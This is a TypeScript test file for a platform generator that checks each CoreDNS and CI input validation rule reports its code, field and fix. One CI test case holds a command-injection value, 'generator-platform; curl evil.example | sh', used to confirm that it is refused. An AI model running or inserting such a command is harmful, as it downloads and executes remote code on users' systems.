// Every input rule has a stable code (INPUT_RULES) and a test named after it that triggers it and
// checks the code and the field. This file holds the model's and the editor's rules; the
// front doors' rules (options, files, layouts) are in test/generators/input-codes.test.ts, and
// the bad-answers tables of test/coredns and test/coredns-depth check their codes too.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, test } from 'node:test';
import {
  CORE_DNS_SERVICE,
  type InputCode,
  InputError,
  INPUT_RULES,
  checkStored,
  editConfigMapData,
  ensureKustomizationResources,
  readYoRc,
  resolveCiConfig,
  resolveCoreDnsConfig,
} from '../../src/index.js';
import { ROOT } from '../support/package-paths.js';
import { tempDir } from '../support/tree.js';

/** The issues `run` throws (it must throw an InputError). */
function issuesOf(run: () => unknown): InputError['issues'] {
  try {
    run();
  } catch (error) {
    assert.ok(error instanceof InputError, `an InputError, not ${String(error)}`);
    return error.issues;
  }
  assert.fail('no InputError');
}

/** `run` is refused by rule `code` at `path`, with a fix, and the message shows the code. */
function assertRule(code: InputCode, path: string, run: () => unknown): void {
  let message = '';
  const issues = issuesOf(() => {
    try {
      return run();
    } catch (error) {
      message = (error as Error).message;
      throw error;
    }
  });
  const issue = issues.find((i) => i.code === code && i.path === path);
  assert.ok(issue, `rule ${code} at ${path}; got ${issues.map((i) => `${i.code} at ${i.path}`).join(', ')}`);
  assert.ok(issue.fix.length > 0, 'a fix');
  assert.ok(message.includes(`[${code}]`), `the message shows the code:\n${message}`);
}

const CLUSTER = { name: 'infra', serviceCidr: '10.245.0.0/16' };
/** Answers whose one cluster has `extra`. */
const withCluster = (extra: object) => ({ clusters: [{ ...CLUSTER, ...extra }] });
/** Answers with one good cluster and `extra` at the top level. */
const withTop = (extra: object) => ({ clusters: [CLUSTER], ...extra });
/** Answers with one custom alert rule. */
const withRule = (rule: object) => withTop({ alerts: { rules: [rule] } });

/** One case per rule of the CoreDNS answers: [code, where it is reported, the answers]. */
const COREDNS_CASES: readonly (readonly [InputCode, string, unknown])[] = [
  ['answers-unknown-key', '(top level)', withTop({ replicas: 2 })],
  ['answers-wrong-type', 'clusters', { clusters: { name: 'infra' } }],
  ['answers-invalid', 'layout.kind', withTop({ layout: { kind: 'flat' } })],
  ['chart-version-invalid', 'chart.version', withTop({ chart: { version: 'latest' } })],
  ['chart-source-invalid', 'chart.source', withTop({ chart: { version: '1.38.1', source: 'git' } })],
  ['chart-source-not-on-oci', 'chart.source', withTop({ chart: { version: '1.38.0', source: 'oci' } })],
  ['clusters-empty', 'clusters', { clusters: [] }],
  ['cluster-name-invalid', 'clusters[0].name', withCluster({ name: 'Infra_1' })],
  ['cluster-name-duplicate', 'clusters[1].name', { clusters: [CLUSTER, { ...CLUSTER, serviceCidr: '10.247.0.0/16' }] }],
  ['replicas-invalid', 'clusters[0].replicas', withCluster({ replicas: 0 })],
  ['service-cidr-invalid', 'clusters[0].serviceCidr', withCluster({ serviceCidr: '10.245.0.1/16' })],
  ['dns-ip-invalid', 'clusters[0].dnsIp', withCluster({ dnsIp: 'dns.local' })],
  ['dns-ip-outside-range', 'clusters[0].dnsIp', withCluster({ dnsIp: '10.247.0.10' })],
  ['depends-on-invalid', 'dependsOn[0]', withTop({ dependsOn: ['Cilium Core'] })],
  ['label-key-invalid', 'serviceMonitorLabels.bad key', withTop({ serviceMonitorLabels: { 'bad key': 'x' } })],
  ['label-value-invalid', 'serviceMonitorLabels.release', withTop({ serviceMonitorLabels: { release: 'kube prometheus' } })],
  ['alert-job-invalid', 'alerts.job', withTop({ alerts: { job: 'core dns' } })],
  ['alert-for-invalid', 'alerts.latency.for', withTop({ alerts: { latency: { for: 'ten minutes' } } })],
  ['alert-severity-invalid', 'alerts.down.severity', withTop({ alerts: { down: { severity: 'page' } } })],
  ['alert-threshold-invalid', 'alerts.errorRatio.threshold', withTop({ alerts: { errorRatio: { threshold: 5 } } })],
  ['alert-latency-invalid', 'alerts.latency.p99Seconds', withTop({ alerts: { latency: { p99Seconds: 0 } } })],
  ['alert-name-duplicate', 'alerts.rules[0].alert', withRule({ alert: 'CoreDNSDown', expr: 'up == 0' })],
  ['alert-preset-unknown', 'alerts.rules[0].preset', withRule({ preset: 'no-such-preset' })],
  ['alert-name-missing', 'alerts.rules[0].alert', withRule({ expr: 'up == 0' })],
  ['alert-name-invalid', 'alerts.rules[0].alert', withRule({ alert: 'core-dns-down', expr: 'up == 0' })],
  ['alert-expr-missing', 'alerts.rules[0].expr', withRule({ alert: 'CoreDNSCustom' })],
  ['alert-expr-syntax', 'alerts.rules[0].expr', withRule({ alert: 'CoreDNSCustom', expr: 'up ==' })],
  ['alert-flux-substitution', 'alerts.rules[0].summary', withRule({ alert: 'CoreDNSCustom', expr: 'up == 0', summary: 'down in ${CLUSTER}' })],
  ['alert-group-invalid', 'alerts.rules[0].group', withRule({ alert: 'CoreDNSCustom', expr: 'up == 0', group: 'Core DNS' })],
  ['alert-runbook-url-invalid', 'alerts.rules[0].runbookUrl', withRule({ alert: 'CoreDNSCustom', expr: 'up == 0', runbookUrl: 'ftp://runbooks/coredns' })],
  ['values-shared-key', 'defaults.values.replicaCount', withTop({ defaults: { values: { replicaCount: 3 } } })],
  ['values-key-unknown', 'defaults.values.noSuchKey', withTop({ defaults: { values: { noSuchKey: 1 } } })],
  ['values-type-mismatch', 'defaults.values.tolerations', withTop({ defaults: { values: { tolerations: 'all' } } })],
  ['upstreams-count', 'defaults.forwarders', withTop({ defaults: { forwarders: [] } })],
  ['upstream-invalid', 'defaults.forwarders[0]', withTop({ defaults: { forwarders: ['dns.google'] } })],
  ['setting-number-invalid', 'defaults.cache.ttl', withTop({ defaults: { cache: { ttl: 0 } } })],
  ['placement-invalid', 'defaults.placement', withTop({ defaults: { placement: 'edge' } })],
  ['stub-domain-invalid', 'defaults.stubDomains.corp..example', withTop({ defaults: { stubDomains: { 'corp..example': ['10.0.0.53'] } } })],
  ['stub-domain-cluster-zone', 'defaults.stubDomains.cluster.local', withTop({ defaults: { stubDomains: { 'cluster.local': ['10.0.0.53'] } } })],
  ['host-name-invalid', 'defaults.hosts.bad host', withTop({ defaults: { hosts: { 'bad host': '10.0.0.1' } } })],
  ['host-address-invalid', 'defaults.hosts.registry.local', withTop({ defaults: { hosts: { 'registry.local': 'not-an-ip' } } })],
  ['autoscaler-min-above-max', 'defaults.autoscaler', withTop({ defaults: { autoscaler: { min: 5, max: 3 } } })],
  ['suppress-aaaa-dual-stack', 'clusters[0].suppressAAAA', withCluster({ serviceCidrV6: 'fd00:10:248::/112', suppressAAAA: true })],
  ['service-cidr-v6-invalid', 'clusters[0].serviceCidrV6', withCluster({ serviceCidrV6: '10.250.0.0/16' })],
  ['service-cidr-v6-needs-ipv4', 'clusters[0].serviceCidrV6', withCluster({ serviceCidr: 'fd00:10:96::/112', serviceCidrV6: 'fd00:10:248::/112' })],
  ['dns-ip-v6-without-cidr', 'clusters[0].dnsIpV6', withCluster({ dnsIpV6: 'fd00::a' })],
  ['dns-ip-v6-invalid', 'clusters[0].dnsIpV6', withCluster({ serviceCidrV6: 'fd00:10:248::/112', dnsIpV6: 'fd00:99::a' })],
  ['monitoring-depends-on-invalid', 'monitoring.dependsOn[0]', withTop({ monitoring: { dependsOn: ['Prometheus CRDs'] } })],
  ['drift-detection-invalid', 'flux.driftDetection', withTop({ flux: { driftDetection: 'sometimes' } })],
  ['chart-interval-invalid', 'flux.chartInterval', withTop({ flux: { chartInterval: 'hourly' } })],
];

/** One case per rule of the CI answers. */
const CI_CASES: readonly (readonly [InputCode, string, unknown])[] = [
  ['ci-answers-not-map', '(answers)', 'kubernetes/**'],
  ['ci-answer-unknown', 'nodeVersoin', { nodeVersoin: '20' }],
  ['ci-gitops-paths-invalid', 'gitopsPaths', { gitopsPaths: [] }],
  ['ci-gitops-path-invalid', 'gitopsPaths[0]', { gitopsPaths: ['../elsewhere'] }],
  ['ci-node-version-invalid', 'nodeVersion', { nodeVersion: 'newest' }],
  ['ci-renovate-invalid', 'renovate', { renovate: 'yes' }],
  ['ci-package-spec-invalid', 'packageSpec', { packageSpec: 'generator-platform; curl evil.example | sh' }],
  ['ci-shards-invalid', 'shards', { shards: 257 }],
];

describe('the CoreDNS answers', () => {
  for (const [code, path, answers] of COREDNS_CASES) {
    test(`${code}: refused at ${path}`, () => assertRule(code, path, () => resolveCoreDnsConfig(answers)));
  }
});

describe('the CI answers', () => {
  for (const [code, path, answers] of CI_CASES) {
    test(`${code}: refused at ${path}`, () => assertRule(code, path, () => resolveCiConfig(answers)));
  }
});

describe('files the run edits or reads', () => {
  const settings = (data: string) => `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: cluster-settings\n  namespace: flux-system\ndata: ${data}\n`;
  const edit = { name: 'cluster-settings', namespace: 'flux-system', set: { DNS_IP: '10.245.0.10' } };

  test('existing-yaml-invalid: a kustomization.yaml that does not parse', () => {
    assertRule('existing-yaml-invalid', 'k/kustomization.yaml', () => ensureKustomizationResources('resources: [a\n', 'k/kustomization.yaml', ['b']));
  });
  test('existing-file-empty: an empty kustomization.yaml', () => {
    assertRule('existing-file-empty', 'k/kustomization.yaml', () => ensureKustomizationResources('', 'k/kustomization.yaml', ['b']));
  });
  test('existing-resources-not-list: resources written as a map', () => {
    assertRule('existing-resources-not-list', 'k/kustomization.yaml: resources', () => ensureKustomizationResources('resources: {a: b}\n', 'k/kustomization.yaml', ['b']));
  });
  test('existing-configmap-data-not-map: settings data written as a list', () => {
    assertRule('existing-configmap-data-not-map', 's.yaml: ConfigMap cluster-settings data', () => editConfigMapData(settings('[DNS_IP]'), 's.yaml', edit));
  });
  test('yo-rc-invalid: a .yo-rc.json that is a list', () => {
    const dir = tempDir();
    writeFileSync(join(dir, '.yo-rc.json'), '[]\n');
    assertRule('yo-rc-invalid', '.yo-rc.json', () => readYoRc(dir));
  });
  test('stored answers keep the code of the rule they break, named at .yo-rc.json', () => {
    const issues = issuesOf(() => checkStored(CORE_DNS_SERVICE, withCluster({ replicas: 0 }), { clusters: [] }));
    assert.deepEqual(
      issues.map((i) => [i.code, i.path]),
      [['replicas-invalid', '.yo-rc.json generator-platform.coredns.clusters[0].replicas']],
    );
  });
});

// ---------------------------------------------------------------------------------------------
// The scan: every rule has a code in INPUT_RULES, every code is used and has its test
// ---------------------------------------------------------------------------------------------

const filesUnder = (dir: string, suffix: string): string[] =>
  readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? filesUnder(join(dir, e.name), suffix) : e.name.endsWith(suffix) ? [join(dir, e.name)] : []));

const CODE_LITERAL = /'([a-z0-9]+(?:-[a-z0-9]+)+)'/g;

/**
 * Codes a test names: `test('<code>: ...')` / `describe('<code>: ...')`, a case table entry
 * starting `['<code>'` (this file), or a bad-answers entry `code: '<code>'` (whose runner names
 * its test `<code>: <rule>` and asserts the code), outside test/validate.
 */
function testedCodes(): Set<string> {
  const codes = new Set<string>();
  // test/validate names its tests after finding codes, a namespace of its own (some words are alike).
  const files = filesUnder(join(ROOT, 'test'), '.ts').filter((file) => !file.startsWith(join(ROOT, 'test', 'validate')));
  for (const file of files) {
    const text = readFileSync(file, 'utf8');
    for (const m of text.matchAll(/\b(?:test|it|describe)\(\s*['"`]([a-z0-9-]+):/g)) codes.add(m[1]!);
    for (const m of text.matchAll(/^\s*\['([a-z0-9-]+)', '/gm)) codes.add(m[1]!);
    for (const m of text.matchAll(/\bcode: '([a-z0-9-]+)', rule: /g)) codes.add(m[1]!);
  }
  return codes;
}

test('every input rule has a test named after its code', () => {
  const tested = testedCodes();
  assert.deepEqual(
    Object.keys(INPUT_RULES).filter((code) => !tested.has(code)),
    [],
    'add a test("<code>: ...") that triggers each of these',
  );
});

test('every code of INPUT_RULES is raised somewhere in src/ (no rule is listed but dead)', () => {
  const used = new Set<string>();
  for (const file of filesUnder(join(ROOT, 'src'), '.ts')) {
    if (file.endsWith('input-codes.ts')) continue;
    for (const m of readFileSync(file, 'utf8').matchAll(CODE_LITERAL)) used.add(m[1]!);
  }
  // The two codes callers react to are raised through their constants.
  used.add('cluster-name-duplicate').add('alert-name-duplicate');
  assert.deepEqual(
    Object.keys(INPUT_RULES).filter((code) => !used.has(code)),
    [],
  );
});

test('docs/input-rules.md lists every rule with its code', () => {
  const doc = readFileSync(join(ROOT, 'docs/input-rules.md'), 'utf8');
  assert.deepEqual(
    Object.keys(INPUT_RULES).filter((code) => !doc.includes(`| \`${code}\` |`)),
    [],
  );
});
